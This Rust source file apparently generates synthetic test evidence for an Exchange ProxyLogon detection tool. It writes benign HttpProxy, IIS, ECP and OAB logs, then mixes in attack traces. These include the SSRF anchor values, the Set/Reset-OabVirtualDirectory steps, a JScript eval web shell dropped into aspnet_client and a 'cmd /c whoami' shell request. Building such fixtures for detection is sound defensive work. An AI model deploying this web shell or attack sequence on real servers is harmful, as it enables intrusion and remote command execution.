//! Deterministic synthetic evidence of an Exchange server: benign traffic around a ProxyLogon
//! intrusion, laid out as a triage folder (`C/…`), and bulk logs for benchmarks. Everything here is
//! invented (documentation IP ranges, contoso names); nothing is copied from real logs.

use std::fs::{self, File};
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};

use chrono::{DateTime, Duration, TimeZone, Utc};

pub mod feeds;
pub mod hive;
pub mod tunnels;

/// A small xorshift generator: deterministic fixtures without a dependency.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed.wrapping_mul(0x9E3779B97F4A7C15) | 1)
    }
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
    pub fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len() as u64) as usize]
    }
}

pub const HTTPPROXY_FIELDS: &str = "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus";

pub const IIS_FIELDS: &str = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";

/// One HttpProxy request, the columns the rules read; the rest are filled plausibly.
pub struct Hp<'a> {
    pub t: DateTime<Utc>,
    pub protocol: &'a str,
    pub stem: &'a str,
    pub user: &'a str,
    pub anchor: &'a str,
    pub ua: &'a str,
    pub ip: &'a str,
    pub status: u16,
    pub method: &'a str,
    pub routing_hint: &'a str,
    pub query: &'a str,
}

fn csvq(s: &str) -> String {
    if s.contains([',', '"']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

pub fn httpproxy_line(rng: &mut Rng, r: &Hp<'_>) -> String {
    let rid = format!(
        "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
        rng.next_u64() as u32,
        rng.below(0x10000),
        rng.below(0x1000),
        rng.below(0x1000),
        rng.next_u64() & 0xffff_ffff_ffff
    );
    let auth = if r.user.is_empty() { "false" } else { "true" };
    let mut f: Vec<String> = vec![
        r.t.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string(),
        rid,
        "15".into(),
        "1".into(),
        "2176".into(),
        "2".into(),
        String::new(),
        r.protocol.into(),
        "mail.contoso.com".into(),
        csvq(r.stem),
        String::new(),
        if r.user.is_empty() {
            String::new()
        } else {
            "Negotiate".into()
        },
        auth.into(),
        csvq(r.user),
        String::new(),
        csvq(r.anchor),
        csvq(r.ua),
        r.ip.into(),
        "EX01".into(),
        r.status.to_string(),
        r.status.to_string(),
        String::new(),
        r.method.into(),
        "Proxy".into(),
        "ex01.contoso.local".into(),
        "15.01.2176.002".into(),
        "IntraForest".into(),
        csvq(r.routing_hint),
        String::new(),
    ];
    for _ in 0..36 {
        f.push(rng.below(40).to_string());
    }
    f.push(csvq(r.query));
    f.push(String::new());
    f.push(format!(
        "BeginRequest={};CorrelationID=<empty>;",
        r.t.format("%Y-%m-%dT%H:%M:%S%.3fZ")
    ));
    while f.len() < 74 {
        f.push(String::new());
    }
    f.join(",")
}

pub fn httpproxy_preamble(t: DateTime<Utc>) -> String {
    format!(
        "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n#Date: {}\r\n#Fields: {}\r\n",
        t.format("%Y-%m-%dT%H:%M:%S%.3fZ"),
        HTTPPROXY_FIELDS
    )
}

pub struct Iis<'a> {
    pub t: DateTime<Utc>,
    pub method: &'a str,
    pub stem: &'a str,
    pub query: &'a str,
    pub user: &'a str,
    pub ip: &'a str,
    pub ua: &'a str,
    pub status: u16,
}

pub fn iis_line(rng: &mut Rng, r: &Iis<'_>) -> String {
    tunnels::line(&tunnels::Req {
        t: r.t,
        server: "10.0.0.5",
        method: r.method,
        stem: r.stem,
        query: r.query,
        user: r.user,
        ip: r.ip,
        ua: r.ua,
        referer: "",
        status: r.status,
        time_taken: rng.below(900) + 3,
    })
}

pub fn iis_preamble(t: DateTime<Utc>) -> String {
    format!(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: {}\r\n#Fields: {}\r\n",
        t.format("%Y-%m-%d %H:%M:%S"),
        IIS_FIELDS
    )
}

const USERS: &[&str] = &[
    "CONTOSO\\alice",
    "CONTOSO\\bob",
    "CONTOSO\\carol",
    "CONTOSO\\dave",
    "CONTOSO\\erin",
];
const CLIENT_IPS: &[&str] = &[
    "10.1.2.31",
    "10.1.2.44",
    "10.1.3.7",
    "10.1.4.19",
    "192.0.2.80",
    "10.1.5.2",
];
const UAS: &[&str] = &[
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
    "Apple-iPhone12C1/1805.228",
    "Outlook-iOS/709.2226530.prod.iphone (4.2107.0)",
];

/// A benign HttpProxy request of protocol `protocol`.
pub fn benign_hp(rng: &mut Rng, t: DateTime<Utc>, protocol: &str) -> String {
    let user = *rng.pick(USERS);
    let mbx = format!("SMTP:{}@contoso.com", user.trim_start_matches("CONTOSO\\"));
    let (stem, method, query) = match protocol {
        "Owa" => (
            *rng.pick(&["/owa/service.svc", "/owa/", "/owa/ev.owa2"]),
            "POST",
            "action=GetItem&EP=1",
        ),
        "Ecp" => (
            *rng.pick(&[
                "/ecp/RulesEditor/InboxRules.svc/GetList",
                "/ecp/PersonalSettings/HomePage.aspx",
            ]),
            "GET",
            "",
        ),
        "Autodiscover" => ("/autodiscover/autodiscover.xml", "POST", ""),
        "Mapi" => ("/mapi/emsmdb/", "POST", "MailboxId=a1b2c3@contoso.com"),
        "Ews" => ("/EWS/Exchange.asmx", "POST", ""),
        _ => (
            "/Microsoft-Server-ActiveSync/default.eas",
            "POST",
            "Cmd=Sync&User=alice&DeviceId=ABC&DeviceType=iPhone",
        ),
    };
    let ua = rng.clone_pick(UAS);
    let ip = rng.clone_pick(CLIENT_IPS);
    httpproxy_line(
        rng,
        &Hp {
            t,
            protocol,
            stem,
            user,
            anchor: &mbx,
            ua,
            ip,
            status: 200,
            method,
            routing_hint: "",
            query,
        },
    )
}

impl Rng {
    fn clone_pick(&mut self, v: &[&'static str]) -> &'static str {
        v[self.below(v.len() as u64) as usize]
    }
}

pub fn benign_iis(rng: &mut Rng, t: DateTime<Utc>) -> String {
    let (method, stem, query) = *rng.pick(&[
        ("POST", "/owa/service.svc", "action=GetItem&EP=1"),
        (
            "GET",
            "/owa/auth/logon.aspx",
            "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0",
        ),
        (
            "GET",
            "/owa/auth/15.1.2176/themes/resources/favicon.ico",
            "",
        ),
        ("POST", "/mapi/emsmdb/", "mailboxId=a1b2c3@contoso.com"),
        (
            "POST",
            "/Microsoft-Server-ActiveSync/default.eas",
            "Cmd=Sync&User=alice&DeviceId=ABC&DeviceType=iPhone",
        ),
        ("POST", "/EWS/Exchange.asmx", ""),
        (
            "GET",
            "/ecp/PersonalSettings/HomePage.aspx",
            "showhelp=false",
        ),
        ("POST", "/autodiscover/autodiscover.xml", ""),
    ]);
    let user = *rng.pick(USERS);
    let ip = rng.clone_pick(CLIENT_IPS);
    let ua = rng.clone_pick(UAS);
    iis_line(
        rng,
        &Iis {
            t,
            method,
            stem,
            query,
            user,
            ip,
            ua,
            status: 200,
        },
    )
}

fn write_lines(path: &Path, preamble: &str, lines: &[String]) -> io::Result<()> {
    fs::create_dir_all(path.parent().expect("file in a folder"))?;
    let mut w = BufWriter::new(File::create(path)?);
    w.write_all(preamble.as_bytes())?;
    for l in lines {
        w.write_all(l.as_bytes())?;
        w.write_all(b"\r\n")?;
    }
    w.flush()
}

pub const ATTACKER: &str = "203.0.113.7";
pub const SCANNER: &str = "198.51.100.23";
pub const SHELL_NAME: &str = "discover.aspx";

/// The OAB virtual directory settings as dumped to disk with a JScript eval in ExternalUrl: the
/// shape of the CVE-2021-27065 web shell (our own text, with a harmless key name).
pub fn oab_shell_text() -> String {
    "Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\nOfflineAddressBooks             : \\Default Offline Address Book\r\nRequireSSL                      : True\r\nBasicAuthentication             : False\r\nWindowsAuthentication           : True\r\nOAuthAuthentication             : True\r\nInternalUrl                     : https://ex01.contoso.local/OAB\r\nExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"exray_sample\"],\"unsafe\");}</script>\r\nAdminDisplayVersion             : Version 15.1 (Build 2176.2)\r\nServer                          : EX01\r\n".to_string()
}

/// Write the sample triage folder of a compromised Exchange 2016 server to `out`.
pub fn write_sample(out: &Path) -> io::Result<()> {
    let mut rng = Rng::new(20_210_303);
    let c = out.join("C");
    let ex = c.join("Program Files/Microsoft/Exchange Server/V15");
    let start = Utc.with_ymd_and_hms(2021, 2, 26, 0, 0, 0).unwrap();
    let attack = Utc.with_ymd_and_hms(2021, 3, 3, 4, 12, 7).unwrap();
    let at = |s: i64| attack + Duration::seconds(s);

    // HttpProxy: benign traffic for a week in every protocol, attack lines in Autodiscover and Ecp.
    for protocol in ["Autodiscover", "Ecp", "Ews", "Mapi", "Owa", "Eas"] {
        let mut lines: Vec<(DateTime<Utc>, String)> = Vec::new();
        for i in 0..300 {
            let t = start + Duration::seconds(i * 2016 + rng.below(600) as i64);
            lines.push((t, benign_hp(&mut rng, t, protocol)));
        }
        let hp = |rng: &mut Rng,
                  t,
                  stem: &str,
                  anchor: &str,
                  ip: &str,
                  status,
                  method: &str,
                  ua: &str,
                  hint: &str| {
            (
                t,
                httpproxy_line(
                    rng,
                    &Hp {
                        t,
                        protocol,
                        stem,
                        user: "",
                        anchor,
                        ua,
                        ip,
                        status,
                        method,
                        routing_hint: hint,
                        query: "",
                    },
                ),
            )
        };
        if protocol == "Autodiscover" {
            // A mass scanner: the SSRF sent, autodiscover only (an attempt).
            for k in 0..3 {
                lines.push(hp(
                    &mut rng,
                    start + Duration::hours(30 + k),
                    "/autodiscover/autodiscover.xml",
                    "ServerInfo~a]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#",
                    SCANNER,
                    200,
                    "POST",
                    "python-requests/2.25.1",
                    "",
                ));
            }
            lines.push(hp(
                &mut rng,
                at(0),
                "/autodiscover/autodiscover.xml",
                "ServerInfo~a]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#",
                ATTACKER,
                200,
                "POST",
                "python-requests/2.25.1",
                "X-BEResource-Cookie",
            ));
        }
        if protocol == "Ecp" {
            lines.push(hp(
                &mut rng,
                at(20),
                "/ecp/y.js",
                "ServerInfo~a]@ex01.contoso.local:444/mapi/emsmdb?#",
                ATTACKER,
                200,
                "POST",
                "python-requests/2.25.1",
                "X-BEResource-Cookie",
            ));
            lines.push(hp(
                &mut rng,
                at(31),
                "/ecp/y.js",
                "ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#",
                ATTACKER,
                241,
                "POST",
                "python-requests/2.25.1",
                "X-BEResource-Cookie",
            ));
            lines.push(hp(&mut rng, at(44), "/ecp/y.js", "ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=x#", ATTACKER, 200, "POST", "python-requests/2.25.1", "X-BEResource-Cookie"));
            lines.push(hp(&mut rng, at(58), "/ecp/y.js", "ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x#", ATTACKER, 200, "POST", "python-requests/2.25.1", "X-BEResource-Cookie"));
        }
        lines.sort_by_key(|a| a.0);
        let ls: Vec<String> = lines.into_iter().map(|(_, l)| l).collect();
        write_lines(
            &ex.join(format!(
                "Logging/HttpProxy/{protocol}/HttpProxy_2021030300-1.LOG"
            )),
            &httpproxy_preamble(start),
            &ls,
        )?;
    }

    // ECP server log: the virtual-directory write.
    let mut ecp = Vec::new();
    for i in 0..40 {
        let t = start + Duration::minutes(i * 250);
        ecp.push(format!("{},EX01,ECP.Request,S:TIME=12;S:SID=S-1-5-21-1-2-3-1104;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList;S:EX=;S:BLD=15.1.2176.2", t.format("%Y-%m-%dT%H:%M:%S%.3fZ")));
    }
    let script = r#"http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""exray_sample""],""unsafe"");}</script>"#;
    ecp.push(format!("{},EX01,ECP.Request,\"S:TIME=210;S:SID=S-1-5-18;S:CMD=Set-OabVirtualDirectory.ExternalUrl='{script}'.Identity='a1b2c3d4-0000-4000-8000-0000000000aa';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:BLD=15.1.2176.2\"", at(45).format("%Y-%m-%dT%H:%M:%S%.3fZ")));
    ecp.push(format!("{},EX01,ECP.Request,\"S:TIME=180;S:SID=S-1-5-18;S:CMD=Reset-OabVirtualDirectory.Identity='a1b2c3d4-0000-4000-8000-0000000000aa'.FilePathName='\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\{SHELL_NAME}';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:BLD=15.1.2176.2\"", at(59).format("%Y-%m-%dT%H:%M:%S%.3fZ")));
    ecp.sort();
    write_lines(&ex.join("Logging/ECP/Server/ECPServer2021030300-1.LOG"), &format!("#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n#Date: {}\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n", start.format("%Y-%m-%dT%H:%M:%S%.3fZ")), &ecp)?;

    // OAB generator log: routine lines and a write outside the OAB folder.
    let mut oab = Vec::new();
    for i in 0..20 {
        let t = start + Duration::hours(i * 8);
        oab.push(format!("[{}] OABGeneratorAssistant: generation of the offline address book \\Default Offline Address Book completed.", t.format("%Y-%m-%dT%H:%M:%S%.3fZ")));
    }
    oab.push(format!("[{}] Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\2XJHwN19.aspx' needs to be removed.", at(300).format("%Y-%m-%dT%H:%M:%S%.3fZ")));
    oab.sort();
    write_lines(
        &ex.join("Logging/OABGeneratorLog/OABGenerator20210303-1.log"),
        "",
        &oab,
    )?;

    // IIS front end: benign traffic, the SSRF carrier, the shell in use with a command.
    let mut iis: Vec<(DateTime<Utc>, String)> = Vec::new();
    for i in 0..600 {
        let t = start + Duration::seconds(i * 1008 + rng.below(300) as i64);
        iis.push((t, benign_iis(&mut rng, t)));
    }
    let mut add = |rng: &mut Rng, t, method, stem, query, ip, ua, status| {
        iis.push((
            t,
            iis_line(
                rng,
                &Iis {
                    t,
                    method,
                    stem,
                    query,
                    user: "",
                    ip,
                    ua,
                    status,
                },
            ),
        ));
    };
    add(
        &mut rng,
        at(20),
        "POST",
        "/ecp/y.js",
        "",
        ATTACKER,
        "python-requests/2.25.1",
        200,
    );
    add(
        &mut rng,
        at(58),
        "POST",
        "/ecp/y.js",
        "",
        ATTACKER,
        "python-requests/2.25.1",
        200,
    );
    let shell = format!("/aspnet_client/{SHELL_NAME}");
    add(
        &mut rng,
        at(420),
        "POST",
        &shell,
        "",
        ATTACKER,
        "antSword/v2.1",
        200,
    );
    add(
        &mut rng,
        at(480),
        "GET",
        &shell,
        "exray_sample=Response.Write(cmd+/c+whoami)",
        ATTACKER,
        "antSword/v2.1",
        200,
    );
    add(
        &mut rng,
        start + Duration::hours(40),
        "GET",
        "/aspnet_client/supp0rt.aspx",
        "",
        SCANNER,
        "Mozilla/5.0 zgrab/0.x",
        404,
    );
    iis.sort_by_key(|a| a.0);
    let ls: Vec<String> = iis.into_iter().map(|(_, l)| l).collect();
    write_lines(
        &c.join("inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"),
        &iis_preamble(start),
        &ls,
    )?;

    // The file system: the shell, a stock page, an lsass dump and a staged archive.
    let shell_path = c.join("inetpub/wwwroot/aspnet_client").join(SHELL_NAME);
    fs::create_dir_all(shell_path.parent().unwrap())?;
    fs::write(&shell_path, oab_shell_text())?;
    let when = std::time::SystemTime::from(at(60));
    File::options()
        .write(true)
        .open(&shell_path)?
        .set_modified(when)?;
    let stock = ex.join("FrontEnd/HttpProxy/owa/auth/logon.aspx");
    fs::create_dir_all(stock.parent().unwrap())?;
    fs::write(&stock, "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n<html><body>Outlook</body></html>\r\n")?;
    fs::create_dir_all(ex.join("Bin"))?;
    // Not a program: just the MZ magic and a VS_FIXEDFILEINFO block saying 15.1.2176.2
    // (Exchange 2016 CU19 without the March 2021 security update), which is what exray reads.
    fs::write(
        ex.join("Bin/ExSetup.exe"),
        fake_version_resource((15, 1, 2176, 2)),
    )?;
    let dump = c.join("root/lsass.dmp");
    fs::create_dir_all(dump.parent().unwrap())?;
    let mut md = b"MDMP\x93\xa7\x00\x00".to_vec();
    md.extend(std::iter::repeat_n(0u8, 56));
    fs::write(&dump, md)?;
    let arch = c.join("ProgramData/VMware/log.7z");
    fs::create_dir_all(arch.parent().unwrap())?;
    let mut z = vec![0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0x00, 0x04];
    z.extend(std::iter::repeat_n(0u8, 24));
    fs::write(&arch, z)?;
    fs::create_dir_all(c.join("Windows/System32/winevt/Logs"))?;
    // The Default Web Site's configuration, without the March 2021 mitigations.
    fs::write(
        c.join("inetpub/wwwroot/web.config"),
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>\r\n  <system.webServer>\r\n    <httpRedirect enabled=\"false\" />\r\n  </system.webServer>\r\n</configuration>\r\n",
    )?;
    Ok(())
}

/// Write benchmark logs: HttpProxy and IIS files of about `file_bytes` each until `total` bytes
/// are written, with rare attack lines. Returns the files written.
pub fn write_bench(out: &Path, total: u64, file_bytes: u64) -> io::Result<Vec<PathBuf>> {
    let mut rng = Rng::new(42);
    let mut written = 0u64;
    let mut files = Vec::new();
    let mut t = Utc.with_ymd_and_hms(2021, 2, 1, 0, 0, 0).unwrap();
    let mut n = 0;
    let ex = out.join("C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy");
    let iisdir = out.join("C/inetpub/logs/LogFiles/W3SVC1");
    fs::create_dir_all(&iisdir)?;
    while written < total {
        n += 1;
        let is_iis = n % 2 == 0;
        let path = if is_iis {
            iisdir.join(format!("u_ex{n:06}.log"))
        } else {
            let proto = *rng.pick(&["Owa", "Ews", "Mapi", "Eas", "Autodiscover", "Ecp"]);
            fs::create_dir_all(ex.join(proto))?;
            ex.join(proto).join(format!("HttpProxy_{n:06}-1.LOG"))
        };
        let mut w = BufWriter::with_capacity(1 << 20, File::create(&path)?);
        let pre = if is_iis {
            iis_preamble(t)
        } else {
            httpproxy_preamble(t)
        };
        w.write_all(pre.as_bytes())?;
        let mut bytes = pre.len() as u64;
        let proto = path
            .parent()
            .and_then(|p| p.file_name())
            .map(|s| s.to_string_lossy().to_string())
            .unwrap_or_default();
        let mut k = 0u64;
        while bytes < file_bytes {
            t += Duration::milliseconds(50 + rng.below(400) as i64);
            k += 1;
            let line = if k.is_multiple_of(100_000) {
                if is_iis {
                    iis_line(
                        &mut rng,
                        &Iis {
                            t,
                            method: "POST",
                            stem: "/ecp/y.js",
                            query: "",
                            user: "",
                            ip: ATTACKER,
                            ua: "python-requests/2.25.1",
                            status: 200,
                        },
                    )
                } else {
                    httpproxy_line(
                        &mut rng,
                        &Hp {
                            t,
                            protocol: "Ecp",
                            stem: "/ecp/y.js",
                            user: "",
                            anchor: "ServerInfo~a]@ex01:444/ecp/proxyLogon.ecp?#",
                            ua: "python-requests/2.25.1",
                            ip: ATTACKER,
                            status: 241,
                            method: "POST",
                            routing_hint: "X-BEResource-Cookie",
                            query: "",
                        },
                    )
                }
            } else if is_iis {
                benign_iis(&mut rng, t)
            } else {
                benign_hp(&mut rng, t, &proto)
            };
            w.write_all(line.as_bytes())?;
            w.write_all(b"\r\n")?;
            bytes += line.len() as u64 + 2;
        }
        w.flush()?;
        written += bytes;
        files.push(path);
    }
    Ok(files)
}

/// Bytes that carry only a PE file's version block: `MZ`, padding, `VS_FIXEDFILEINFO`.
pub fn fake_version_resource(v: (u16, u16, u16, u16)) -> Vec<u8> {
    let mut d = b"MZ".to_vec();
    d.extend(std::iter::repeat_n(0u8, 126));
    d.extend_from_slice(&[0xBD, 0x04, 0xEF, 0xFE]);
    d.extend_from_slice(&0x0001_0000u32.to_le_bytes());
    d.extend_from_slice(&(((v.0 as u32) << 16) | v.1 as u32).to_le_bytes());
    d.extend_from_slice(&(((v.2 as u32) << 16) | v.3 as u32).to_le_bytes());
    d.extend(std::iter::repeat_n(0u8, 36));
    d
}
